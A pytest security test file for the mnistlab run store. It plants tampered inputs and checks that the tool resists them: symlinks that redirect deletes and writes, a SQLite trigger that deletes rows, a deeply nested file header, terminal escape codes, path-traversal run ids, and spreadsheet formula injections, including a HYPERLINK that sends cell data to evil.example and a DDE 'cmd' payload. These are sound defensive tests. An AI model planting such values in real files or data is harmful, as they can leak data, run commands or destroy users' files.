"""A store copied from someone else, crafted to reach outside itself (helper-188, a security
review): links in its folders, triggers in its database, headers that nest without end, names with
terminal escape codes. Each test builds the store with the real store code, then tampers with it."""

from __future__ import annotations

import csv
import hashlib
import io
import json
import sqlite3
from contextlib import closing
from pathlib import Path

import numpy as np
import pytest
import torch
from test_experiments import TINY, write

from mnistlab.cli import main
from mnistlab.errors import StoreError
from mnistlab.execute import run_experiment
from mnistlab.files import csv_text
from mnistlab.store import RunStore


def _digest(experiment: str) -> str:
    return hashlib.sha256(experiment.encode()).hexdigest()[:16]


def _victim(root: Path) -> Path:
    """A folder outside the store, with files and folders of its own."""
    (root / "photos").mkdir(parents=True)
    (root / "photos" / "a.jpg").write_bytes(b"holiday")
    (root / "thesis.txt").write_text("years of work")
    return root


def test_rm_of_an_experiment_removes_a_link_in_the_store_not_what_it_points_at(tmp_path: Path) -> None:
    """`rm -e evil` listed checkpoints/<evil's digest>, a link to a folder elsewhere, and deleted every
    folder in it."""
    store = RunStore(tmp_path / "s")
    rid = store.start_run(experiment="evil", variant="v", seed=0, member=0, config={}, config_hash="h")
    store.finish_run(rid, status="finished", history=[], metrics={}, env={})
    store.close()
    victim = _victim(tmp_path / "victim")
    (tmp_path / "s" / "checkpoints").mkdir()
    (tmp_path / "s" / "checkpoints" / _digest("evil")).symlink_to(victim, target_is_directory=True)
    assert main(["rm", "-e", "evil", "--yes", "--store", str(tmp_path / "s")]) == 0
    assert (victim / "photos" / "a.jpg").read_bytes() == b"holiday" and (victim / "thesis.txt").is_file()
    assert not (tmp_path / "s" / "checkpoints" / _digest("evil")).exists()  # the link itself is gone


def test_a_sweep_writes_its_own_files_never_through_a_link_the_store_holds(tmp_path: Path, data_dir: Path) -> None:
    """A sweep's plan, sweeps/<digest>.json, a link to a file elsewhere: `mnistlab run` replaced that
    file's contents with the plan."""
    p = write(tmp_path, 'name = "evil"\n' + TINY)
    (tmp_path / "s" / "sweeps").mkdir(parents=True)
    victim = tmp_path / "important.txt"
    victim.write_text("keep me")
    plan = tmp_path / "s" / "sweeps" / f"{_digest('evil')}.json"
    plan.symlink_to(victim)
    result = run_experiment(p, RunStore(tmp_path / "s"), data_dir=data_dir, progress="none")
    assert [o.record.status for o in result.outcomes] == ["finished"]
    assert victim.read_text() == "keep me" and not plan.is_symlink() and json.loads(plan.read_text())


def test_a_database_holding_a_trigger_is_not_opened(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """A trigger in a copied runs.sqlite ran with the next write: it deleted the other runs' rows as a
    run was recorded, and nothing was said."""
    store = RunStore(tmp_path)
    keep = store.start_run(experiment="e", variant="v", seed=0, member=0, config={}, config_hash="h")
    store.finish_run(keep, status="finished", history=[], metrics={"test_accuracy": 0.9}, env={})
    store.close()
    with closing(sqlite3.connect(tmp_path / "runs.sqlite")) as con:
        con.execute("CREATE TRIGGER t1 AFTER UPDATE ON runs BEGIN DELETE FROM runs WHERE run_id <> NEW.run_id; END")
        con.commit()
    with pytest.raises(StoreError, match=r"holds trigger t1, which mnistlab never makes \(a crafted or edited"):
        RunStore(tmp_path)
    assert main(["runs", "--store", str(tmp_path)]) == 2
    assert capsys.readouterr().err.count("\n") == 1
    with closing(sqlite3.connect(tmp_path / "runs.sqlite")) as con:
        assert con.execute("SELECT run_id FROM runs").fetchall() == [(keep,)]


def test_a_weights_header_nested_without_end_is_said_damaged_not_a_traceback(tmp_path: Path,
                                                                            capsys: pytest.CaptureFixture[str]) -> None:
    """`reindex --check` of a weights.safetensors whose header is 200,000 nested lists: a RecursionError."""
    store = RunStore(tmp_path)
    rid = store.start_run(experiment="e", variant="v", seed=0, member=0, config={"dataset": "mnist"}, config_hash="h")
    store.finish_run(rid, status="finished", history=[], metrics={"test_accuracy": 0.5}, env={},
                     weights={"w": torch.ones(2)}, predictions=np.full((4, 10), 0.1, np.float32))
    store.close()
    header = b"[" * 200_000 + b"]" * 200_000
    (tmp_path / "runs" / rid / "weights.safetensors").write_bytes(len(header).to_bytes(8, "little") + header)
    assert main(["reindex", "--check", "--store", str(tmp_path)]) == 1
    out, err = capsys.readouterr()
    assert "Traceback" not in err and err.count("\n") == 1 and f"runs/{rid}" in out, (out, err)


def test_a_comparisons_csv_escapes_a_names_terminal_codes(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """`compare ID ID --format csv` wrote a variant's ESC ] 0 ; ... BEL raw: on a terminal it set the
    window's title and cleared the screen (every other output shows it as \\x1b)."""
    store = RunStore(tmp_path)
    hostile = "v\x1b]0;PWNED\x07\x1b[2J"
    ids = []
    for seed in (0, 1):
        rid = store.start_run(experiment="e", variant=hostile, seed=seed, member=0, config={"dataset": "mnist"},
                              config_hash=f"h{seed}")
        store.finish_run(rid, status="finished", history=[], metrics={"test_accuracy": 0.5}, env={})
        ids.append(rid)
    store.close()
    assert main(["compare", *ids, "--format", "csv", "--store", str(tmp_path)]) == 0
    out = capsys.readouterr().out
    assert "\x1b" not in out and "\x07" not in out and "v\\x1b]0;PWNED\\x07\\x1b[2J" in out, out


def test_csv_outputs_give_a_formula_as_text_a_spreadsheet_does_not_run(tmp_path: Path,
                                                                        capsys: pytest.CaptureFixture[str]) -> None:
    """A variant named =HYPERLINK(...) was a live link (or, with DDE, a command) when `compare` or
    `runs --format csv` was opened in a spreadsheet: it is led by ', as OWASP advises; numbers keep their sign."""
    store = RunStore(tmp_path)
    hostile = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    ids = []
    for seed, variant in ((0, hostile), (1, hostile), (2, "@SUM(1+1)*cmd")):
        rid = store.start_run(experiment="e", variant=variant, seed=seed, member=0, config={"dataset": "mnist"},
                              config_hash=f"h{seed}")
        store.finish_run(rid, status="finished", history=[], metrics={"test_accuracy": 0.5, "test_loss": -0.25}, env={})
        ids.append(rid)
    store.close()
    assert main(["compare", *ids, "--format", "csv", "--store", str(tmp_path)]) == 0
    rows = list(csv.DictReader(io.StringIO(capsys.readouterr().out)))
    assert sorted(r["variant"] for r in rows) == ["'" + hostile, "'@SUM(1+1)*cmd"], rows
    assert main(["runs", "--format", "csv", "--store", str(tmp_path)]) == 0
    rows = list(csv.DictReader(io.StringIO(capsys.readouterr().out)))
    assert sorted(r["variant"] for r in rows) == ["'" + hostile, "'" + hostile, "'@SUM(1+1)*cmd"], rows
    assert all(not cell.startswith(("=", "@", "+")) for r in rows for cell in r.values()), rows


@pytest.mark.parametrize(("text", "cell"), [("=1+2", "'=1+2"), ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
                                            ("-2+3", "'-2+3"), ("@x", "'@x"), ("-0.5", "-0.5"), ("+1e-3", "+1e-3"),
                                            ("a=b", "a=b"), ("-", "-"), ("\x1b=", "\\x1b="), ("=\x07", "'=\\x07")])
def test_csv_text_leads_a_formula_by_a_quote_and_keeps_a_numbers_sign(text: str, cell: str) -> None:
    assert csv_text(text) == cell


@pytest.mark.parametrize("run_id", ["aaaaaaaaaa/../../../victim", "../../v/sub", "ABCDEF0123", "abc"])
def test_a_database_whose_run_id_is_no_run_id_is_not_opened(tmp_path: Path, run_id: str) -> None:
    """A row whose run_id was "aaaaaaaaaa/../../../victim": `show aaaaaaaaaa` took it for that run, whose
    files would be looked for outside runs/, and `rm -e` stopped on Python's own check only."""
    store = RunStore(tmp_path)
    rid = store.start_run(experiment="evil", variant="v", seed=0, member=0, config={}, config_hash="h")
    store.close()
    with closing(sqlite3.connect(tmp_path / "runs.sqlite")) as con:
        con.execute("UPDATE runs SET run_id = ? WHERE run_id = ?", (run_id, rid))
        con.commit()
    with pytest.raises(StoreError, match=r"holds a run id .*, which mnistlab never makes"):
        RunStore(tmp_path)
